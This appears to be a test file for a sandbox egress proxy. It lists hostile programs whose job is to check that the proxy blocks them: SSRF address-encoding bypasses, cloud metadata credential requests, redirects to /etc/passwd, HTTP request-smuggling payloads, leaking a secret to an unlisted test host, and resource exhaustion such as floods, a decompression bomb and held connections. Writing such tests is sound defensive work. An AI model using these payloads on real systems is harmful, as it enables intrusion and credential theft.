"""Programs that are after the network by way of the proxy, or after the proxy itself."""

from dataclasses import replace

from pydantic import SecretStr

from sayso.sandbox.types import Ending, Network, Reach, Secret
from tests.sandbox.hostile.attack import QUICK, Attack

ANY_HOST = Network(Reach.PUBLIC)
LISTED = Network(Reach.LISTED, ("open.test:{open}",))
SECRET = "kept-for-one-host-alone"
WITH_SECRET = Network(
    Reach.LISTED,
    ("open.test:{open}", "other.test:{open}"),
    {"key": Secret(SecretStr(SECRET), ("open.test:{open}",))},
)
"""Ports in braces are those of the servers of the test."""
NAMES = "only the proxy of the test knows these names"
LONGER = replace(QUICK, wall_seconds=12)

_WAYS = '''
def by_urllib(address, **headers):
    import urllib.request

    return (
        urllib.request.urlopen(urllib.request.Request(address, headers=headers), timeout=3).read().decode()
    )

def by_httpx(address, **headers):
    import httpx

    return httpx.get(address, headers=headers, timeout=3, follow_redirects=True).text

def by_requests(address, **headers):
    import requests

    return requests.get(address, headers=headers, timeout=3).text

WAYS = {"urllib": by_urllib, "httpx": by_httpx, "requests": by_requests}

def ask(host, *addresses):
    for address in addresses:
        for name, way in WAYS.items():
            attempt(f"{address} by {name}", lambda: host["half"] in way(address))

def say(*pieces, wait=1.0):
    """Send bytes to the proxy as they are, and give what comes back."""
    with socket.socket(socket.AF_UNIX) as line:
        line.settimeout(wait)
        line.connect("/run/egress.sock")
        answer = b""
        try:
            for piece in pieces:
                line.sendall(piece)
            while more := line.recv(65536):
                answer += more
        except OSError:
            pass
        return answer.decode("latin-1")
'''

ATTACKS = (
    Attack(
        "asks for addresses of the machine and its network",
        _WAYS
        + """
def run(ctx, host):
    ask(
        host,
        *(
            f"http://{name}:{host['tcp']}/"
            for name in (
                "127.0.0.1",
                "localhost",
                "0.0.0.0",
                "[::1]",
                "[::ffff:127.0.0.1]",
                "[::ffff:7f00:1]",
                "127.1",
                "2130706433",
                "0x7f000001",
                "0177.0.0.1",
                "127.0.0.1.",
                "127.0.0.3",
                host["address"],
            )
        ),
    )
    if host["inside"]:
        for name in (
            "10.0.0.1",
            "172.16.0.1",
            "192.168.0.1",
            "100.64.0.1",
            "198.18.0.1",
            "[fc00::1]",
            "[fe80::1]",
            "224.0.0.1",
            "255.255.255.255",
            "[64:ff9b::7f00:1]",
            "[2002:7f00:1::]",
            "[::127.0.0.1]",
        ):
            attempt(name, lambda: by_httpx(f"http://{name}:{host['tcp']}/") is not None)
    return won
""",
        network=ANY_HOST,
        limits=LONGER,
    ),
    Attack(
        "asks for the credentials of the machine",
        _WAYS
        + """
def run(ctx, host):
    for name in (
        "169.254.169.254",
        "169.254.170.2",
        "[fd00:ec2::254]",
        "100.100.100.200",
        "metadata.test",
        "[::ffff:169.254.169.254]",
        "2852039166",
        "0xa9fea9fe",
        "[64:ff9b::a9fe:a9fe]",
        "168.63.129.16",
    ):
        for way in WAYS.values():
            attempt(name, lambda: way(f"http://{name}/latest/meta-data/", Metadata="true") is not None)
    return won
""",
        network=ANY_HOST,
        limits=LONGER,
        unsafe="where there are credentials, they would be read",
    ),
    Attack(
        "asks by names that lead into the own network",
        _WAYS
        + """
def run(ctx, host):
    ask(
        host,
        *(
            f"http://{name}:{host['tcp']}/"
            for name in (
                "inner.test",
                "mixed.test",
                "INNER.test",
                "inner.test.",
                "mapped.test",
                "linked.test",
            )
        ),
    )
    return won
""",
        network=ANY_HOST,
        unsafe=NAMES,
    ),
    Attack(
        "asks by a name that moves into the own network",
        _WAYS
        + """
def run(ctx, host):
    for number in range(6):
        try:
            by_httpx(f"http://moving.test:{host['tcp']}/")
        except Exception:
            pass
        attempt("moved", lambda: host["half"] in by_urllib(f"http://moving.test:{host['tcp']}/"))
    return won
""",
        network=ANY_HOST,
        unsafe=NAMES,
    ),
    Attack(
        "is led into the own network by a source",
        _WAYS
        + """
def run(ctx, host):
    for kind in (301, 302, 307, 308):
        for target in (
            f"http://127.0.0.1:{host['tcp']}/",
            f"http://inner.test:{host['tcp']}/",
            f"//127.0.0.1:{host['tcp']}/",
            "file:///etc/passwd",
            f"unix://{host['unix']}",
            "http://169.254.169.254/",
        ):
            ask(host, f"http://open.test:{host['open']}/redirect?status={kind}&to={target}")
            attempt(
                target,
                lambda: (
                    "root:"
                    in by_urllib(f"http://open.test:{host['open']}/redirect?status={kind}&to={target}")
                ),
            )
    return won
""",
        network=ANY_HOST,
        limits=LONGER,
        unsafe=NAMES,
    ),
    Attack(
        "asks for hosts that are not listed",
        _WAYS
        + """
def run(ctx, host):
    here, there = f"open.test:{host['open']}", f"127.0.0.1:{host['tcp']}"
    ask(
        host,
        f"http://{there}/",
        f"http://other.test:{host['open']}/",
        f"http://{here}@{there}/",
        f"http://{there}/?{here}",
        f"http://{there}#{here}",
        f"http://{there}\\\\{here}",
        f"http://x.open.test:{host['open']}/",
        f"http://open.test.evil.test:{host['open']}/",
        f"http://open.test:{host['tcp']}/",
        "http://open.test/",
        f"http://open%2etest%40:{host['tcp']}/",
        f"https://{here}/",
        f"http://\\u24d8pen.test:{host['tcp']}/",
    )
    attempt("it was asked under another name", lambda: "seen other" in by_httpx(f"http://{here}/hosts"))
    return won
""",
        network=LISTED,
        unsafe=NAMES,
    ),
    Attack(
        "asks without being allowed any host",
        _WAYS
        + """
def run(ctx, host):
    ask(
        host,
        f"http://127.0.0.1:{host['tcp']}/",
        f"http://open.test:{host['open']}/",
        "http://modules.sayso/x",
        "file:///etc/passwd",
        "ftp://127.0.0.1/",
        "http://egress.sayso/",
    )
    attempt("over a door it has not", lambda: say(b"GET http://open.test/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"))
    return won
""",
    ),
    Attack(
        "speaks other protocols to the proxy",
        _WAYS
        + """
def run(ctx, host):
    here, there = f"open.test:{host['open']}", f"127.0.0.1:{host['tcp']}"
    for said in (
        f"CONNECT {there} HTTP/1.1\\r\\nHost: {there}\\r\\n\\r\\nGET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
        f"GET http://{there}/ HTTP/1.0\\r\\n\\r\\n",
        f"GET http://{there}/\\r\\n",
        f"GET / HTTP/1.1\\r\\nHost: {there}\\r\\n\\r\\n",
        f"GET //{there}/ HTTP/1.1\\r\\nHost: {there}\\r\\n\\r\\n",
        f"GET {there} HTTP/1.1\\r\\nHost: {there}\\r\\n\\r\\n",
        f"GET http://{here}/ HTTP/1.1\\r\\nHost: {there}\\r\\nX-Forwarded-Host: {there}\\r\\n\\r\\n",
        f"GET http://{there}/ HTTP/1.1\\r\\nHost: open.test:{host['open']}\\r\\n\\r\\n",
        f"GET ws://{there}/ HTTP/1.1\\r\\nUpgrade: websocket\\r\\nConnection: upgrade\\r\\n\\r\\n",
        f"GET unix:{host['unix']} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
        "PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n",
        f"GET gopher://{there}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
        f"TRACE http://{there}/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n",
    ):
        attempt(said.partition("\\r")[0], lambda: host["half"] in say(said.encode(), wait=0.3))
    attempt("binary", lambda: host["half"] in say(b"\\x05\\x01\\x00" + os.urandom(200), wait=0.3))
    return won
""",
        network=ANY_HOST,
        limits=LONGER,
        unsafe="there is no proxy outside",
    ),
    Attack(
        "hides a request in another",
        _WAYS
        + """
def run(ctx, host):
    here = f"open.test:{host['open']}"
    hidden = f"GET /hidden HTTP/1.1\\r\\nHost: {here}\\r\\n\\r\\n"
    start = f"POST http://{here}/seen HTTP/1.1\\r\\nHost: {here}\\r\\n"
    for said in (
        f"{start}Content-Length: 0\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n{hidden}",
        f"{start}Content-Length: {len(hidden)}\\r\\nContent-Length: 0\\r\\n\\r\\n{hidden}",
        f"{start}Transfer-Encoding: chunked, identity\\r\\n\\r\\n{hidden}",
        f"{start}Transfer-Encoding: xchunked\\r\\n\\r\\n{hidden}",
        f"{start}Transfer-Encoding : chunked\\r\\n\\r\\n0\\r\\n\\r\\n{hidden}",
        f"{start}Content-Length: +0\\r\\n\\r\\n{hidden}",
        f"{start}X: a\\n\\n{hidden}",
        f"{start}X: a\\rB: c\\r\\n\\r\\n{hidden}",
        f"{start}X:\\r\\n folded\\r\\nContent-Length: 0\\r\\n\\r\\n{hidden.replace('GET ', 'GET http://127.0.0.1')}",
        f"{start}Connection: host, content-length\\r\\nContent-Length: {len(hidden)}\\r\\n\\r\\n{hidden}",
        f"GET http://{here}/seen\\thidden HTTP/1.1\\r\\n\\r\\n",
        f"GET http://{here}/a HTTP/1.1\\r\\nX: y\\x00{hidden}\\r\\n\\r\\n",
    ):
        say(said.encode("latin-1"), wait=0.3)
    for way in WAYS.values():
        for headers in (
            {"X-A": f"b\\r\\n\\r\\n{hidden}"},
            {"X-A": f"b\\n{hidden}"},
            {f"X\\r\\n\\r\\n{hidden}": "b"},
        ):
            try:
                way(f"http://{here}/seen", **headers)
            except Exception:
                pass
        for address in (
            f"http://{here}/a HTTP/1.1\\r\\n\\r\\n{hidden}",
            f"http://{here}/%0d%0a%0d%0aGET%20/hidden",
        ):
            try:
                way(address)
            except Exception:
                pass
    attempt("a request was hidden", lambda: "/hidden" in by_httpx(f"http://{here}/paths").split("\\n"))
    return won
""",
        network=ANY_HOST,
        limits=LONGER,
        unsafe=NAMES,
    ),
    Attack(
        "takes a secret to another host",
        _WAYS
        + """
def run(ctx, host):
    here, other, mark = (
        f"http://open.test:{host['open']}",
        f"http://other.test:{host['open']}",
        "{{secret:key}}",
    )
    first = "kept-for-one-" + "host"
    for way in WAYS.values():
        for address, headers in (
            (other + "/echo", {"X-Key": mark}),
            (other + f"/echo?key={mark}", {}),
            (here + "/echo", {"X-Key": mark}),
            (here + f"/echo?key={mark}", {}),
            (here + f"/redirect?status=302&to={other}/echo?key={mark}", {"X-Key": mark}),
            (here + "/echo", {"X-Key": "{{secret:key}}", "Range": "bytes=0-20"}),
            (here + "/echo?reversed=1", {"Host": f"other.test:{host['open']}", "X-Key": mark}),
        ):
            attempt(address, lambda: first in way(address, **headers))
    attempt("the value is known in here", lambda: first in ctx.secret("key"))
    attempt("another host was told", lambda: first in by_httpx(other + "/told"))
    return won
""",
        network=WITH_SECRET,
        limits=LONGER,
        unsafe=NAMES,
    ),
    Attack(
        "sends requests without end",
        _WAYS
        + """
def run(ctx, host):
    answered = 0
    for _ in range(100):
        try:
            by_httpx(f"http://open.test:{host['open']}/seen")
            answered += 1
        except Exception:
            pass
    return [f"{answered} answers"] if answered > 20 else []
""",
        network=replace(ANY_HOST, most_requests=20),
        unsafe=NAMES,
    ),
    Attack(
        "draws more bytes than it may",
        _WAYS
        + """
def run(ctx, host):
    total = 0
    for way in WAYS.values():
        for _ in range(4):
            try:
                total += len(way(f"http://open.test:{host['open']}/large"))
            except Exception:
                pass
    return [f"{total} bytes"] if total > 2**20 else []
""",
        network=replace(ANY_HOST, most_bytes=2**20),
        unsafe=NAMES,
    ),
    Attack(
        "unpacks an answer that is larger than its memory",
        _WAYS
        + """
def run(ctx, host):
    return [
        f"{len(by_httpx(f'http://open.test:{host[chr(111) + chr(112) + chr(101) + chr(110)]}/bomb'))} bytes"
    ]
""",
        network=ANY_HOST,
        endings=(Ending.RESOURCE, Ending.KILLED),
        unsafe=NAMES,
    ),
    Attack(
        "holds the proxy's connections open",
        _WAYS
        + """
def run(ctx, host):
    kept = []
    try:
        for _ in range(60):
            line = socket.socket(socket.AF_UNIX)
            line.connect("/run/egress.sock")
            line.sendall(b"GET http://open.test/ HTTP/1.1\\r\\nX: ")
            kept.append(line)
    except OSError:
        pass
    time.sleep(0.3)
    return []
""",
        network=ANY_HOST,
        unsafe="nothing to win; others must be served meanwhile",
    ),
    Attack(
        "turns its clients back and asks by themselves",
        _WAYS
        + """
import importlib

def run(ctx, host):
    for name in list(sys.modules):
        if name.split(".")[0] in (
            "http",
            "urllib",
            "httpx",
            "httpcore",
            "requests",
            "urllib3",
            "socket",
            "anyio",
            "sandboxed",
        ):
            del sys.modules[name]
    importlib.invalidate_caches()
    ask(host, f"http://127.0.0.1:{host['tcp']}/")

    def by_unix(path):
        import httpx

        return host["half"] in httpx.Client(transport=httpx.HTTPTransport(uds=path)).get("http://x/").text

    attempt("socket of the host", by_unix, host["unix"])
    attempt("socket without a file", by_unix, "\\0" + host["abstract"])
    os.environ.update(HTTP_PROXY=f"http://127.0.0.1:{host['tcp']}", NO_PROXY="*", ALL_PROXY="")
    ask(host, f"http://localhost:{host['tcp']}/")
    return won
""",
        network=ANY_HOST,
    ),
    Attack(
        "looks for the doors of others",
        """
import glob, stat

def run(ctx, host):
    found = []
    for place in (
        ("/opt/doors", "/run", "/tmp", "/work", "/opt", "/", "/dev", "/opt/doors/..")
        if host["inside"]
        else (host["home"],)
    ):
        for path in [os.path.join(place, name) for name in listed(place)] + glob.glob(place + "/*/*.sock"):
            try:
                if stat.S_ISSOCK(os.stat(path).st_mode) and path != "/run/egress.sock":
                    won.append(path)
            except OSError:
                pass
    for number in range(60):
        attempt(f"door {number}", lambda: os.stat(f"/opt/doors/{number}/egress.sock"))
    attempt("puts another in its place", lambda: os.rename("/run/egress.sock", "/run/other") is None)
    attempt("removes it", lambda: os.unlink("/run/egress.sock") is None)
    return won
""",
        network=ANY_HOST,
    ),
)
